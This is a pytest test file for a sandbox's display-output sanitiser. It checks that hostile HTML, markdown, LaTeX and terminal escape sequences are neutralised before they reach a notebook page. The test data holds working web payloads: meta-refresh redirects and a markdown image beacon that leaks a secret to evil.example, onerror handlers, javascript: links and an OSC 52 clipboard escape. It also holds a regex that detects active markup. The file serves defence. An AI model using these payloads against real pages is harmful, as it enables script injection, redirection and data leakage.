"""What a sandbox's display data becomes (`runner/trusted/display.py`), checked as data: each
case is hostile input and what may cross into a notebook page."""

from __future__ import annotations

import json
import re

import pytest

from sandbox_kernel_ext.runner.trusted.display import (
    clean_stream,
    clean_text,
    inert_html,
    safe_bundle,
)

# Markup a browser would act on by itself if it reached the frame's document.
ACTIVE = re.compile(r"<\s*(meta|base|link|script|iframe|frame|object|embed|template)\b|"
                    r"\son\w+\s*=|srcdoc", re.IGNORECASE)


@pytest.mark.parametrize("markup", [
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<META HTTP-EQUIV=refresh CONTENT="0;url=x">',
    '<svg><meta http-equiv="refresh" content="0;url=x"></svg>',
    '<style>p{}</style/x><meta http-equiv="refresh" content="0;url=x">',
    '<style>p{}</style ><meta http-equiv="refresh" content="0;url=x">',
    '<iframe srcdoc="<meta http-equiv=refresh content=0;url=x>"></iframe>',
    '<object data="x"></object><embed src="x"><base href="https://evil.example/">',
    '<img src=x onerror="parent.x=1"><a href="#" onclick="x()">a</a>',
    '<template><meta http-equiv="refresh"></template>',
    '<p a"b=1 c=2>t</p><x/y>z</x/y>',
])
def test_markup_that_acts_by_itself_does_not_survive(markup: str) -> None:
    assert not ACTIVE.search(inert_html(markup)), inert_html(markup)


def test_ordinary_html_survives_as_it_shows() -> None:
    table = ('<style>.c td{color:red}</style><table class="c" border="1"><tr><th>a</th>'
             '<td>1 &lt; 2 &amp; 3</td></tr></table><b>bold</b><br/>')
    out = inert_html(table)
    assert out == ('<style>.c td{color:red}</style><table class="c" border="1"><tr><th>a</th>'
                   '<td>1 &lt; 2 &amp; 3</td></tr></table><b>bold</b><br />')


def test_a_less_than_sign_in_css_cannot_end_the_style() -> None:
    assert inert_html('<style>a[x="<"]{}</style>') == '<style>a[x="\\3c "]{}</style>'


@pytest.mark.parametrize("markdown", [
    "[click](javascript:alert(1))",
    "[click]\x00(javascript:alert(1))",
    "> [x]: javascript:alert(1)\n\n[x]",
    "- [x]: javascript:alert(1)\n\n[x]",
    "![beacon](https://evil.example/leak?d=secret)",
    "<img src=x onerror=alert(1)>",
    "text <https://evil.example>",
])
def test_markdown_that_could_link_or_load_shows_as_text(markdown: str) -> None:
    data, _ = safe_bundle({"text/markdown": markdown, "text/plain": "p"}, {})
    assert "text/markdown" not in data and data["text/plain"] == "p"


def test_plain_markdown_renders() -> None:
    data, _ = safe_bundle({"text/markdown": "# Title\n\n**bold** and `code`"}, {})
    assert data["text/markdown"] == "# Title\n\n**bold** and `code`"


@pytest.mark.parametrize("latex", [r"\href{javascript:x}{y}", "\\h\x00ref{javascript:x}{y}",
                                   r"\def\x{1}", r"$\style{color:red}{x}$"])
def test_latex_that_makes_links_or_macros_shows_as_text(latex: str) -> None:
    data, _ = safe_bundle({"text/latex": latex}, {})
    assert "text/latex" not in data


def test_every_bundle_can_be_sent_as_a_kernel_message() -> None:
    """The kernel's message encoder refuses NaN and lone surrogates: a bundle that carried
    them would raise in the kernel, not in the sandbox."""
    hostile = {"text/plain": "a\ud800b", "application/json": {"x": float("nan")},
               "text/html": "<b>\udfff</b>", "text/markdown": "m\ud83d", "image/svg+xml": "\ud800"}
    data, metadata = safe_bundle(hostile, {"image/png": {"width": float("inf")}})
    json.dumps(data, allow_nan=False).encode("utf-8")
    json.dumps(metadata, allow_nan=False).encode("utf-8")
    assert "application/json" not in data and data["text/plain"] == "a\ufffdb"


def test_streams_keep_colours_and_lose_terminal_commands() -> None:
    text = "a\x1b[31mred\x1b[0m\x1b]52;c;c2VjcmV0\x07\x1b]0;title\x1b\\\r\x1b[2Jb\x07\x08c"
    assert clean_stream(text) == "a\x1b[31mred\x1b[0m\rbc"
    assert clean_text("\x1b[31mx\u202e") == "[31mx"
